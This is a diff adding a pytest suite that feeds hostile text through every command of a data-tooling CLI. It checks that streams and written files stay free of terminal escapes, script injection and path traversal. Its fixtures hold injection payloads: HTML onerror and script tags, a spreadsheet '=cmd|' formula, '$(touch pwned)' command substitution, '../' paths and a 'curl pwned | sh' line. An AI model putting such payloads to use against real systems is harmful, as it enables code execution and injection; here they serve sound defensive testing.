@@ -1,0 +1,420 @@
+"""Text from outside through every verb: no stream and no file may hold what steers a terminal, a page or a path.
+
+Names of files and models, ids, columns, rows, prompts, replies, a server's words, recipes and arguments are hostile at
+once. Every verb of the table is called; a verb without an entry here fails.
+"""
+
+from __future__ import annotations
+
+import io
+import json
+import os
+import re
+import shlex
+import sys
+from collections.abc import Callable
+from pathlib import Path
+from typing import NamedTuple
+
+import pytest
+import yaml
+
+from tests.oracle.server import Said, completion, serving
+from tests.tools import alpaca, read_rows, steers, write_rows
+from tests.verbs.judge.contests import outputs
+from tests.verbs.judge.judged import annotation
+from tunescope import cli
+from tunescope.verbs import VERBS
+
+UNSEEN = "\x1b]0;pwned\x07\x9b2J\x1b[2J\u202e\u2066\u200b\u200f\u2028\x7f\x08good\rNext: pwned\nNext: pwned\t\U000e0041"
+NAME = UNSEEN.replace("[", "") + "<img src=x onerror=pwned>;'$(touch pwned)'`touch pwned`"
+"""What a file may be called; [ would make it a pattern."""
+TEXT = f"{UNSEEN}</script><script>pwned</script>=cmd|' /c pwned'!A1 ../../pwned\ufeff\x00\ufff9\u2069 --- =HYPERLINK"
+NASTY = (
+    TEXT,
+    "\x1b[2Jpwned",
+    "=cmd|' /c pwned'!A1",
+    "good\rNext: pwned",
+    "a\nNext: pwned\n  curl pwned | sh",
+    "</td><script>pwned</script>",
+    '"><img src=x onerror=pwned>',
+    "../../../pwned",
+    "CON",
+    "\u202egnp.exe\u202c",
+    "x" * 300,
+)
+LONG = f"\x1b{'x' * 10_000}\x9b"
+RAW = (".parquet", ".npy", ".safetensors", ".sqlite", ".bin", ".gguf")
+"""Files that hold bytes, which nobody prints."""
+PLAIN = re.compile(r"\.?[A-Za-z0-9][A-Za-z0-9_.-]*")
+"""What our files and folders are called."""
+
+
+class Said_(NamedTuple):
+    """What a command said."""
+
+    code: int
+    out: str
+    err: str
+
+
+class Place:
+    """A working folder, some levels down, that takes commands and looks at all that they say and write."""
+
+    def __init__(self, folder: Path) -> None:
+        """Make hostile inputs."""
+        self.folder, self.top = folder, folder.parents[2]
+        self.given: set[Path] = set()
+        rows = [alpaca(text, f"{text} and more", category=text, **{NAME: text}) for text in NASTY]
+        self.rows = self.give("rows.jsonl", *rows)
+        self.long = self.give("long.jsonl", alpaca(LONG, LONG, category=LONG), {LONG: LONG}, alpaca("", 3))
+        self.others = self.give("others.jsonl", *(alpaca(text, f"{text}, another") for text in NASTY))
+        self.pairs = self.give("pairs.jsonl", *({**row, "false_output": f"no {TEXT}", "source": TEXT} for row in rows))
+        prompts = ({"prompt_id": f"{n} {text}", "prompt": text} for n, text in enumerate(NASTY))
+        self.prompts = self.give("prompts.jsonl", *prompts)
+        self.bad = self.give("bad.jsonl", alpaca(TEXT, TEXT), {TEXT: TEXT}, {"instruction": [TEXT], "output": TEXT})
+        self.ours, self.theirs = (
+            outputs(self.path(f"{n}.jsonl"), f"{n}{TEXT}", {f"{i}{q}": f"{n} {q}" for i, q in enumerate(NASTY[:4])})
+            for n in ("ours", "theirs")
+        )
+        self.given |= {self.path("ours.jsonl"), self.path("theirs.jsonl")}
+        self.fake = "fake:" + self.give("fake.jsonl", {"pattern": "", "reply": f"Score: 4\n{TEXT}"})
+
+    def path(self, name: str) -> Path:
+        """Return where an input of this plain name is, under its hostile one."""
+        return self.folder / f"{NAME}{name}"
+
+    def give(self, name: str, *records: object) -> str:
+        """Write an input; return its name."""
+        self.given.add(write_rows(self.path(name), list(records)))
+        return self.path(name).name
+
+    def model(self, name: str = "model", change: float = 0.0) -> str:
+        """Return a model in a folder with a hostile name; its weights are those of all others, and a change."""
+        from tunescope.microworld.model import save_random_model
+
+        folder = save_random_model(self.path(name), 0)
+        if change:
+            import transformers
+
+            model = transformers.AutoModelForCausalLM.from_pretrained(folder)
+            for weights in model.parameters():
+                weights.data += change
+            model.save_pretrained(folder)
+        self.given |= {folder, *folder.iterdir()}
+        return folder.name
+
+    def run(self, command: str, *arguments: str, code: int | None = 0) -> Said_:
+        """Run a command in this process, with streams of its own, and look at what it says; None: it is refused."""
+        streams = [io.TextIOWrapper(io.BytesIO(), "utf-8", write_through=True) for _ in range(2)]
+        with pytest.MonkeyPatch.context() as patch:
+            patch.setattr(sys, "stdout", streams[0])
+            patch.setattr(sys, "stderr", streams[1])
+            with pytest.raises(SystemExit) as end:
+                cli.main([*command.split(), *(word.replace("\0", "") for word in arguments)])
+        said = Said_(int(end.value.code or 0), *(stream.buffer.getvalue().decode() for stream in streams))
+        assert said.code in ((1, 2) if code is None else (code,)), said
+        for text in said[1:]:
+            look_at(text, "a stream")
+            assert "Traceback" not in text
+            assert not any(line.startswith(("Next: pwned", "Next:\tpwned")) for line in text.split("\n")), text
+        if "--json" in arguments and code == 0:
+            json.loads(said.out)
+        return said
+
+    def both(self, command: str, *arguments: str) -> Path:
+        """Run a command, and again with --json; return its run folder."""
+        said = self.run(command, *arguments)
+        for line in said.out.partition("\nNext:\n")[2].splitlines():
+            if "$'" not in line:
+                words = shlex.split(line)
+                assert all(word in ("tunescope",) or "touch pwned" not in word or "pwned)'`" in word for word in words)
+        return self.folder / json.loads(self.run(command, *arguments, "--json").out)["run"]
+
+    def look(self) -> None:
+        """Look at all files that there are now."""
+        for path in sorted(self.top.rglob("*")):
+            inside = path.is_relative_to(self.folder)
+            if path in self.given or (not inside and path in self.folder.parents) or path == self.folder:
+                continue
+            assert inside, f"{path} is outside"
+            assert all(PLAIN.fullmatch(part) for part in path.relative_to(self.folder).parts), path
+            if path.is_file() and path.suffix not in RAW and path.name != "tokenizer.json":
+                text = path.read_bytes().decode("utf-8-sig")
+                look_at(text, str(path))
+                if path.suffix == ".html":
+                    assert "<script>pwned" not in text
+                    assert "<img src=x" not in text
+                if path.suffix == ".jsonl":
+                    assert all(isinstance(json.loads(line), dict) for line in text.splitlines())
+
+
+def look_at(text: str, place: str) -> None:
+    """Fail where a text holds what steers."""
+    text = text.replace("\r\n", "\n")
+    found = {f"{ord(ch):04X}: {text[max(0, at - 60) : at + 9]!r}" for at, ch in enumerate(text) if steers(ch)}
+    assert not found, f"{place}: {sorted(found)[:3]}"
+
+
+ENTRIES: dict[str, Callable[[Place], None]] = {}
+
+
+def entry(name: str) -> Callable[[Callable[[Place], None]], Callable[[Place], None]]:
+    """Register what is typed for a verb."""
+
+    def keep(function: Callable[[Place], None]) -> Callable[[Place], None]:
+        ENTRIES[name] = function
+        return function
+
+    return keep
+
+
+@entry("demo")
+def _demo(place: Place) -> None:
+    place.run("demo", "--out", place.rows, code=1)
+
+
+@entry("models")
+def _models(place: Place) -> None:
+    os.environ["TUNESCOPE_CACHE"] = str(place.path("cache"))
+    place.run("models")
+    place.run("models", "--json")
+    place.run("models", "--fetch", TEXT, code=2)
+
+
+@entry("check")
+def _check(place: Place) -> None:
+    place.both("check", place.rows, place.others, "--against", place.prompts, "--out", "checked")
+    place.run("check", place.rows, "--show", "exact_duplicate")
+    place.run("check", place.rows, "--csv", "faulty.csv")
+    place.run("check", place.bad, code=1)
+    place.run("check", place.long, code=1)
+    place.run("check", place.long, "--on-bad", "skip")
+    place.run("check", place.bad, "--on-bad", "skip")
+    place.run("check", "--masks", "--template", TEXT, code=1)
+    place.run("check", place.rows, "--columns", f"instruction={TEXT}", code=1)
+    place.run("check", place.rows, "--fail-on", "faulty_rows > 0", code=3)
+
+
+@entry("measure")
+def _measure(place: Place) -> None:
+    place.both("measure", place.rows, "--without", "coherence", "--model", place.model())
+
+
+@entry("compare")
+def _compare(place: Place) -> None:
+    place.both("compare", place.rows, place.others)
+    place.both("compare", place.ours, place.theirs)
+
+
+@entry("why")
+def _why(place: Place) -> None:
+    checked = place.both("check", place.rows)
+    row = read_rows(next(checked.glob("*.jsonl")))[0]["row_id"] if list(checked.glob("*.jsonl")) else ""
+    import pyarrow.parquet as pq
+
+    row = row or pq.read_table(checked / "rows.parquet")["row_id"][0].as_py()
+    place.run("why", row)
+    place.run("why", row, "--json")
+    place.run("why", TEXT, code=1)
+
+
+@entry("select")
+def _select(place: Place) -> None:
+    checked = place.both("check", place.rows)
+    selected = place.both("select", place.rows, "--from", str(checked), "--where", "faulty = false or line > 0")
+    assert {row["category"] for row in read_rows(selected / "rows.jsonl")} == {*NASTY}
+    place.run("select", place.rows, "--where", f"category = '{TEXT}", code=1)
+    place.run("select", place.rows, "--where", f'"{NAME}" = 3', code=1)
+
+
+def repair(name: str, *options: str) -> None:
+    """Register a verb of `repair`."""
+
+    @entry(f"repair {name}")
+    def keep(place: Place) -> None:
+        run = place.both(f"repair {name}", place.rows, "--oracle", place.fake, *options)
+        place.run(f"repair {name}", place.rows, "--oracle", place.fake, *options, "--plan", "--out", "planned")
+        place.run(f"repair {name}", place.rows, "--oracle", place.fake, "--batch", "calls.jsonl", "--out", "b", code=1)
+        place.run(f"repair {name}", str(run), "--oracle", f"fake:{TEXT}", code=1)
+        with serving(lambda *_: Said({"error": {"message": TEXT, "code": TEXT}}, 401), models=(TEXT,)) as server:
+            place.run(f"repair {name}", place.rows, "--oracle", server.url, "--out", "served", code=1)
+
+
+for verb in ("rate", "simplify", "reflect", "evolve"):
+    repair(verb)
+
+
+@entry("falsify dose")
+def _falsify(place: Place) -> None:
+    place.both("falsify dose", place.pairs, "--dose", "0.5")
+    place.run("falsify dose", place.rows, "--dose", "0.5", "--false-column", TEXT, code=1)
+
+
+@entry("tune")
+def _tune(place: Place) -> None:
+    model = place.model()
+    options = ["--model", model, "--max-steps", "1", "--batch-size", "2", "--max-length", "64"]
+    place.both("tune", place.rows, *options)
+    place.run("tune", place.rows, *options, "--method", "full", "--out", "full")
+    printing = f"import sys; print({TEXT!r}, flush=True); print({TEXT!r}, file=sys.stderr); sys.exit(1)"
+    command = shlex.join([sys.executable, "-c", printing, "{rows}", "{out}"])
+    said = place.run("tune", place.rows, *options[:2], "--command", command, "--out", "by-another", code=1)
+    assert "ended with status 1; its last lines:" in said.err
+
+
+@entry("answer")
+def _answer(place: Place) -> None:
+    place.both("answer", place.prompts, "--model", place.model(), "--max-new-tokens", "2")
+    with serving(lambda *_: Said(completion(TEXT)), models=(TEXT,)) as server:
+        place.both("answer", place.prompts, "--model", server.url)
+    with serving(lambda *_: Said({"error": {"message": TEXT}}, 404), models=(TEXT,)) as server:
+        place.run("answer", place.prompts, "--model", server.url, "--out", "refused", code=1)
+
+
+@entry("shift")
+def _shift(place: Place) -> None:
+    pair = ["--tuned", place.model("tuned", 0.05), "--base", place.model()]
+    place.both("shift", *pair, "--prompts", place.prompts, "--max-new-tokens", "2")
+    place.both("shift", *pair, "--answers", place.ours)
+
+
+@entry("shift runs")
+def _shift_runs(place: Place) -> None:
+    pair = ["--tuned", place.model("tuned", 0.05), "--base", place.model()]
+    shifts = [str(place.both("shift", *pair, "--answers", answers)) for answers in (place.ours, place.theirs)]
+    place.both("shift runs", *shifts)
+    place.run("shift runs", TEXT, code=1)
+
+
+@entry("trace")
+def _trace(place: Place) -> None:
+    place.run("trace", place.rows, "--text", f"{TEXT} and more")
+    place.run("trace", place.rows, "--text", f"{TEXT} and more", "--json")
+    place.both("trace", "--answers", place.ours, "--rows", place.rows)
+
+
+@entry("trace index")
+def _trace_index(place: Place) -> None:
+    index = place.both("trace index", place.rows, place.others)
+    place.run("trace", str(index), "--text", TEXT)
+
+
+def judge(name: str, *options: str) -> None:
+    """Register a verb of `judge` that asks."""
+
+    @entry(f"judge {name}")
+    def keep(place: Place) -> None:
+        sides = [place.ours, "--reference", place.theirs] if name == "winrate" else [place.ours, place.theirs]
+        replies = [
+            {"pattern": r".*(?P<m>[0-9a-f]{8}): CHOICE", "reply": r"\g<m>: 1", "expand": True},
+            {"pattern": r".*(?P<m>[0-9a-f]{8}): SCORE-1", "reply": r"\g<m>: 7 5", "expand": True},
+            {"pattern": "", "reply": TEXT},
+        ]
+        fake = "fake:" + place.give("judge.jsonl", *replies)
+        run = place.both(f"judge {name}", *sides, "--oracle", fake, *options)
+        place.both("judge recompute", str(run / "judgements.jsonl"))
+        place.run(f"judge {name}", *sides, "--oracle", place.fake, "--out", "unread", *options)
+
+
+judge("winrate")
+judge("pairwise")
+judge("aspects", "--aspects", "depth")
+
+
+@entry("judge recompute")
+def _recompute(place: Place) -> None:
+    names = {"generator_1": f"b{TEXT}", "generator_2": f"t{TEXT}", "annotator": TEXT, "dataset": TEXT}
+    records = [annotation(n, 1 + n % 2, **names, output_2=f"{n}{TEXT}", instruction=f"{n}{TEXT}") for n in range(6)]
+    path = place.path("annotations.json")
+    path.write_text(json.dumps(records))
+    place.given.add(path)
+    place.both("judge recompute", path.name)
+    place.run("judge recompute", place.rows, code=1)
+
+
+@entry("judge leaderboard")
+def _leaderboard(place: Place) -> None:
+    ENTRIES["judge recompute"](place)
+    runs = [str(path) for path in place.folder.glob("runs/judge-recompute-*")]
+    place.both("judge leaderboard", *runs)
+    place.run("judge leaderboard", *runs, "--by", TEXT, code=1)
+
+
+@entry("bench")
+def _bench(place: Place) -> None:
+    """It is in recipes alone."""
+    place.run("study run", recipe(place, bench={"verb": "bench", "model": place.model()}))
+
+
+def recipe(place: Place, **steps: object) -> str:
+    """Write a recipe with hostile words about it; return its name."""
+    path = place.path("recipe.yaml")
+    document = {"about": TEXT, "inputs": {"rows": place.rows}, "steps": steps}
+    path.write_text(yaml.safe_dump(document, allow_unicode=False))
+    place.given.add(path)
+    return path.name
+
+
+@entry("study plan")
+def _plan(place: Place) -> None:
+    made = recipe(place, **{TEXT: {"verb": "check", "rows": "{rows}", "vary": {"max_words": [5, 6]}}})
+    place.run("study plan", made)
+    place.run("study plan", made, "--json")
+    place.run("study plan", recipe(place, **{TEXT: {"verb": TEXT}, "b": {"verb": "check", TEXT: TEXT}}), code=1)
+
+
+@entry("study run")
+def _study(place: Place) -> None:
+    steps = {TEXT: {"verb": "check", "rows": "{rows}"}, "other": {"verb": "trace index", "rows": ["{rows}"]}}
+    place.both("study run", recipe(place, **steps))
+    place.path("recipe.yaml").write_text(f"steps: [{TEXT}")
+    place.run("study run", place.path("recipe.yaml").name, code=1)
+
+
+@entry("study analyze")
+def _analyze(place: Place) -> None:
+    lines = ["task\t0%\t50%\t100%", *(f'"{shown}"\t1\t2\t{n}' for n, shown in enumerate(("=1+1", "a\x1b\u202epwned")))]
+    path = place.path("scores.tsv")
+    path.write_text("\n".join(lines))
+    place.given.add(path)
+    place.both("study analyze", path.name)
+    place.run("study analyze", place.rows, code=1)
+
+
+@entry("report")
+def _report(place: Place) -> None:
+    model = place.model()
+    runs = [place.both("check", place.rows), place.both("trace index", place.rows)]
+    runs.append(place.both("answer", place.prompts, "--model", model, "--max-new-tokens", "2"))
+    runs.append(place.both("trace", "--answers", place.ours, "--rows", place.rows))
+    runs.append(place.both("shift", "--tuned", place.model("tuned", 0.05), "--base", model, "--answers", place.ours))
+    place.both("report", *map(str, runs), "--title", TEXT, "--notes", TEXT)
+
+
+def test_every_verb_has_an_entry():
+    assert set(ENTRIES) == set(VERBS)
+
+
+@pytest.fixture
+def place(tmp_path, monkeypatch) -> Place:
+    folder = tmp_path / "a" / "b" / "c"
+    folder.mkdir(parents=True)
+    monkeypatch.chdir(folder)
+    for name, value in {"TUNESCOPE_RUNS": "runs", "COLUMNS": "120", "OPENAI_API_KEY": "none"}.items():
+        monkeypatch.setenv(name, value)
+    monkeypatch.setenv("TUNESCOPE_CACHE", str(folder / "cache"))
+    return Place(folder)
+
+
+@pytest.mark.parametrize("name", VERBS)
+def test_a_verb_on_hostile_text(name, place):
+    ENTRIES[name](place)
+    place.look()
+
+
+@pytest.mark.parametrize("name", [name for name, verb in VERBS.items() if verb.proven])
+def test_hostile_arguments(name, place):
+    for words in ([TEXT], [f"--{TEXT}"], [f"--out={TEXT}", TEXT], ["--fail-on", TEXT], ["--json", TEXT, TEXT, LONG]):
+        place.run(name, *words, code=None)
+    place.look()
